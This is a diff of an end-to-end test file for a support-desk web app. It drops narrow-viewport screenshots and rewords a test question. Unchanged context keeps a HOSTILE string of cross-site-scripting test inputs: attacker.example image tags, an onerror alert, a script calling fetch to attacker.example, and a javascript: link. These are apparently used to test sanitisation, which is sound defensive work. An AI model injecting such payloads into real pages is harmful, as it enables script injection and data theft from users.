@@ -14,7 +14,6 @@ from tests.end_to_end.watching import Watch
 
 OpenAs = Callable[[str, str], Page]
 TICKET = "/desk/LF-4101"
-NARROW = {"width": 360, "height": 900}
 HOSTILE = (
     '![x](https://attacker.example/a.png) <img src="https://attacker.example/b.png" onerror="alert(1)">'
     "<script>fetch('https://attacker.example/c')</script> [click](javascript:alert(2)) https://attacker.example/d"
@@ -56,8 +55,6 @@ def test_documents_that_disagree_stand_side_by_side(panel: Panel) -> None:
     expect(card).to_contain_text(conflict["right"]["title"])
     shoot(panel.page, "desk-conflict")
     keeps_nobody_out(panel.page, "conflict")
-    panel.page.set_viewport_size(NARROW)
-    shoot(panel.page, "desk-conflict-narrow")
 
 
 def test_an_exception_says_until_when_it_holds(panel: Panel) -> None:
@@ -75,7 +72,7 @@ def test_an_answer_of_an_earlier_day_stands_beside_todays(open_as: OpenAs, demo:
     panel = Panel(open_as("Jo Abara", "/desk/LF-4114"), demo)
     panel.root.get_by_role("button", name="Order date 11 Feb 2025").click()
 
-    answer = panel.ask("cost of collecting a Vault that comes back, UK")
+    answer = panel.ask("What does the hazardous goods collection for a Vault cost in the UK?")
 
     assert "£35" in answer["text"]
     assert "£45" in answer["today"]["text"]
@@ -96,8 +93,6 @@ def test_a_draft_is_held_against_the_documents(panel: Panel) -> None:
     expect(draft).to_contain_text("14 days")
     shoot(panel.page, "desk-draft-check")
     keeps_nobody_out(panel.page, "draft check")
-    panel.page.set_viewport_size(NARROW)
-    shoot(panel.page, "desk-draft-check-narrow")
     draft.get_by_role("button", name="Close the check").click()
     expect(draft).to_have_count(0)
 
